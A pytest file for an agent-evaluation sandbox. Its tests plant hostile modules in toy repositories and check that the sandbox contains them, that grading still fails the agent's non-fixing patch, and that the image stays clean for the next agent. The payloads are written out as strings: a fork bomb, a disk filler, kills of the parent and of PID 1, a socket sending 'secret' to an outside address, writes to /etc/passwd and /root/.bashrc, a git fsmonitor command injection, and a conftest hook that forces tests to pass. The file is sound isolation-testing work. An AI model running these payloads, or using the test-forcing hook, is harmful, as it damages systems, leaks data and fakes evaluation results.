"""Hostile repositories through whole episodes: what their tests do is seen, ends nothing else, and solves nothing.

In each repository a test turns hostile as long as the mistake is there. An agent runs the tests, looks around, and hands in a
patch that mends nothing; then another one works on the same image, and finds it as it was.
"""

import re
import socket
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from small_image import BACKEND, SmallImage, image_of, needs_box, venv_layer

from foretrace.forager.agent import Setting
from foretrace.forager.budgets import Budgets
from foretrace.forager.episodes import run_episode
from foretrace.forager.grading import Grade, Verdict, grade_patch
from foretrace.forager.mutation.sampling import file_patch
from foretrace.forager.policies.gates import Oracle
from foretrace.forager.policies.replay import Replay
from foretrace.forager.policies.types import Policy
from foretrace.forager.task import Task
from foretrace.forager.tasks.instance import Instance
from foretrace.forager.trajectory import Action, Ending, Trajectory
from foretrace.repos.history import files_of, squash
from foretrace.sandbox.environment import EnvironmentLimits
from foretrace.sandbox.environments import open_environment

pytestmark = needs_box
LIMITS = EnvironmentLimits(memory_bytes=512 << 20, processes=64, disk_bytes=48 << 20, seconds=600)
WRONG, RIGHT = "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n"
TESTS = """\
from a import add


def test_zero():
    assert add(0, 0) == 0


def test_add():
    if add(1, 2) != 3:
        import hostile
    assert add(1, 2) == 3
"""
IMPORTS = "import os, pathlib, signal, socket, subprocess, sys, time\n"
RUN = "python -m pytest -q -p no:cacheprovider tests"


@dataclass(frozen=True, kw_only=True)
class Repository:
    """A hostile repository, and an agent's way through it."""

    image: SmallImage
    instance: Instance

    @classmethod
    def of(cls, body: str, layer: Path, venv: Path) -> "Repository":
        tests = {"conftest.py": "", "tests/test_a.py": TESTS, "tests/hostile.py": IMPORTS + body}
        files = {"a.py": WRONG, ".gitignore": "*.pyc\n", **tests}
        image = image_of(files, layer, venv, hooks=())
        testbed = layer / "testbed"
        squash(testbed, files_of(testbed), created="2024-01-01T00:00:00+00:00")
        instance = Instance(
            instance_id="hostile-1",
            repo="hostile",
            patch=file_patch("a.py", WRONG, RIGHT),
            problem_statement="`add` subtracts.",
            fail_to_pass=("tests/test_a.py::test_add",),
            pass_to_pass=("tests/test_a.py::test_zero",),
        )
        return cls(image=image, instance=instance)

    def episode(self, policy: Policy, folder: Path, *, seconds: float = 60) -> Trajectory:
        """One, to its end; `seconds` are those of a command."""
        task = Task.of(self.instance, replace(self.image.image, digest="hostile"), LIMITS, command=RUN)
        setting = Setting(budgets=Budgets(command_seconds=seconds), backend=BACKEND)
        found = run_episode(task, policy, folder, setting)
        assert found is not None
        assert found.result is not None
        assert found.result.ending is Ending.SUBMITTED, [step.observation for step in found.steps]
        return found

    def grade(self, trajectory: Trajectory, *, seconds: float = 60) -> Grade:
        assert trajectory.result is not None
        patch = trajectory.result.submission
        return grade_patch(
            self.instance, patch, self.image.image, self.image, seconds=seconds, backend=BACKEND, limits=LIMITS
        )


@pytest.fixture(scope="module")
def venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    layer = tmp_path_factory.mktemp("venv")
    venv_layer(layer)
    return layer


NOTHING = file_patch("a.py", WRONG, WRONG + "\n\nx = 1\n")
"""A patch that mends nothing."""


def agent(*commands: str, submits: str = NOTHING) -> Replay:
    """Runs the tests and some commands, and submits a patch: the text, or what `git diff` says if there is none."""
    diff = "git add -A && git diff --cached > /tmp/answer.patch"
    handing = Action.call("create", f"/tmp/answer.patch\n{submits}") if submits else Action.call("bash", diff)
    actions = [Action.call("bash", command) for command in (RUN, *commands)]
    return Replay([*actions, handing, Action.call("submit", "/tmp/answer.patch"), Action(content="Done.", ends=True)])


def seen(trajectory: Trajectory) -> list[str]:
    """What the agent was shown, step by step."""
    return [step.observation for step in trajectory.steps]


def next_is_clean(repository: Repository, before: Trajectory, folder: Path) -> None:
    """A second agent finds the image as the first one did, its tests behave, and its answer counts."""
    after = repository.episode(Oracle(), folder)
    assert after.header.state == before.header.state
    grade = repository.grade(after)
    assert (grade.verdict, grade.put_back, grade.doubts) == (Verdict.RESOLVED, (), ()), grade


FORK_BOMB = """
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
"""
WAITS = """
sys.stderr.write("waiting for an answer\\n")
while not os.read(0, 1):
    time.sleep(0.05)
"""


@pytest.mark.parametrize("body", [FORK_BOMB, WAITS], ids=["fork bomb", "waits for input"])
def test_what_never_ends_is_stopped_and_graded(body: str, venv: Path, tmp_path: Path) -> None:
    repository = Repository.of(body, tmp_path / "layer", venv)
    first = repository.episode(agent("echo still here; ls"), tmp_path / "run", seconds=4)
    tests, look, *_ = seen(first)
    assert "[stopped after 4 s]" in tests
    assert first.steps[0].status == "timeout"
    assert "still here" in look
    assert "a.py" in look
    grade = repository.grade(first, seconds=4)
    assert (grade.verdict, grade.fail_to_pass) == (Verdict.FAILED, {"tests/test_a.py::test_add": False})
    assert "timeout" in grade.reason
    next_is_clean(repository, first, tmp_path / "run")


FILLS = """
for place in ("/testbed/fill", "/tmp/fill", "/dev/shm/fill"):
    with open(place, "wb") as file:
        try:
            while True:
                file.write(bytes(1 << 20))
                file.flush()
        except OSError as error:
            print(place, error.strerror)
"""


def test_a_full_disk_is_told_and_can_be_emptied(venv: Path, tmp_path: Path) -> None:
    repository = Repository.of(FILLS, tmp_path / "layer", venv)
    first = repository.episode(
        agent("echo x > more", "rm /testbed/fill /tmp/fill; echo x > more && cat more"), tmp_path / "run"
    )
    tests, more, mended, *_ = seen(first)
    assert "No space left on device" in more
    assert "1 failed" in tests or "No space left on device" in tests  # pytest itself may have had no space to say it
    assert re.search(r"^x$", mended, re.MULTILINE)
    assert "/testbed/fill" in {change.path for change in first.steps[0].changes}
    assert repository.grade(first).verdict is Verdict.FAILED
    next_is_clean(repository, first, tmp_path / "run")


KILLS = """
for process in (os.getppid(), 1, -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError as error:
        print(process, error.strerror)
os.kill(os.getpid(), signal.SIGKILL)
"""


def test_who_kills_its_parent_kills_no_episode(venv: Path, tmp_path: Path) -> None:
    repository = Repository.of(KILLS, tmp_path / "layer", venv)
    first = repository.episode(agent("echo still here"), tmp_path / "run")
    tests, look, *_ = seen(first)
    assert first.steps[0].code == 137
    assert "[stopped: killed]" in tests
    assert "still here" in look
    grade = repository.grade(first)
    assert grade.verdict is Verdict.FAILED
    assert grade.reason
    next_is_clean(repository, first, tmp_path / "run")


CALLS = """
for place in (("198.51.100.1", 80), ("127.0.0.1", {port})):
    try:
        socket.create_connection(place, 2).sendall(b"secret")
        print("reached", place)
    except OSError as error:
        print("not reached", place, error.strerror)
with socket.socket(socket.AF_UNIX) as other:
    try:
        other.connect("\\0{name}")
        print("reached it")
    except OSError as error:
        print("not reached", error.strerror)
"""


@pytest.fixture
def servers() -> Iterator[tuple[Sequence[socket.socket], str]]:
    """Of this machine: one of the network, one without a file."""
    name = f"foretrace-{id(object())}"
    with socket.create_server(("127.0.0.1", 0)) as one, socket.socket(socket.AF_UNIX) as two:
        two.bind(f"\0{name}")
        two.listen()
        for server in (one, two):
            server.setblocking(False)
        yield (one, two), name


def test_nobody_outside_is_reached(servers: tuple[Sequence[socket.socket], str], venv: Path, tmp_path: Path) -> None:
    listening, name = servers
    body = CALLS.format(port=listening[0].getsockname()[1], name=name)
    repository = Repository.of(body, tmp_path / "layer", venv)
    first = repository.episode(agent(), tmp_path / "run")
    tests = seen(first)[0]
    assert tests.count("not reached") == 3
    assert "1 failed" in tests
    assert repository.grade(first).verdict is Verdict.FAILED
    for server in listening:
        with pytest.raises(BlockingIOError):
            server.accept()
    next_is_clean(repository, first, tmp_path / "run")


WRITES = """
import _pytest
for place in ("{outside}/x", "/etc/passwd", "/usr/bin/env", "/usr/x", "/root/.bashrc", "/opt/venv/x", "/x", _pytest.__file__):
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "a") as file:
            file.write("raise SystemExit(0)\\n")
        print("written", place)
    except OSError as error:
        print("not written", place, error.strerror)
"""


def test_what_is_written_elsewhere_is_not_there_afterwards(venv: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    outside.chmod(0o777)
    repository = Repository.of(WRITES.format(outside=outside), tmp_path / "layer", venv)
    before = {path: path.read_bytes() for path in (Path("/etc/passwd"), Path("/usr/bin/env"))}
    first = repository.episode(agent(RUN), tmp_path / "run")
    tests, again, *_ = seen(first)
    assert "not written /usr/bin/env" in tests
    assert "written /opt/venv/x" in tests
    assert "1 failed" not in again  # its pytest is no more what it was, and that is its own loss
    assert list(outside.iterdir()) == []
    assert {path: path.read_bytes() for path in before} == before
    assert not Path("/usr/x").exists()
    assert not (venv / "opt/venv/x").exists()
    assert repository.grade(first).verdict is Verdict.FAILED
    next_is_clean(repository, first, tmp_path / "run")


EDITS = '''
pathlib.Path("conftest.py").write_text("""
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    out = yield
    out.get_result().outcome = "passed"
""")
pathlib.Path("sitecustomize.py").write_text("import _pytest.runner")
pathlib.Path("tests/test_a.py").write_text("def test_zero(): ...\\ndef test_add(): ...\\n")
'''


def test_who_edits_what_judges_is_judged_without_it(venv: Path, tmp_path: Path) -> None:
    repository = Repository.of(EDITS, tmp_path / "layer", venv)
    first = repository.episode(agent(RUN, submits=""), tmp_path / "run")
    tests, again, *_ = seen(first)
    assert "1 failed" in tests
    assert "2 passed" in again  # so it looks to the agent
    edited = {"conftest.py", "sitecustomize.py", "tests/test_a.py"}
    assert {change.path for change in first.steps[0].changes} >= {f"/testbed/{path}" for path in edited}
    grade = repository.grade(first)
    assert grade.verdict is Verdict.FAILED
    assert set(grade.put_back) == edited
    next_is_clean(repository, first, tmp_path / "run")


REWRITES = """
def git(*arguments):
    subprocess.run(["git", "-c", "user.name=n", "-c", "user.email=e@e", *arguments], check=False)
git("config", "core.fsmonitor", "touch /tmp/watched; false")
git("config", "core.hooksPath", "/testbed/hooks")
pathlib.Path("a.py").write_text("def add(a, b):\\n    return a * b\\n")
git("commit", "--quiet", "--all", "--amend", "--message", "what it always was")
git("tag", "v9")
subprocess.run("rm -rf .git/objects/??; echo gone > .git/index", shell=True)
"""


def test_who_rewrites_git_changes_nobody_elses(venv: Path, tmp_path: Path) -> None:
    repository = Repository.of(REWRITES, tmp_path / "layer", venv)
    first = repository.episode(agent("git status", "git log"), tmp_path / "run")
    tests, status, log, *_ = seen(first)
    assert "1 failed" in tests
    assert "exit code" in status
    assert "exit code" in log
    assert [change.path for change in first.steps[0].changes] == ["/testbed/a.py"]  # told by what files hold, and not by git
    assert repository.grade(first).verdict is Verdict.FAILED
    next_is_clean(repository, first, tmp_path / "run")
    with open_environment(repository.image.image, LIMITS, backend=BACKEND) as environment:
        told = environment.exec(["git", "log", "--all", "--format=%s"]).output.decode()
        assert told.count("\n") == 1
        assert "always" not in told
        assert environment.exec(["git", "status", "--porcelain"]).output == b""
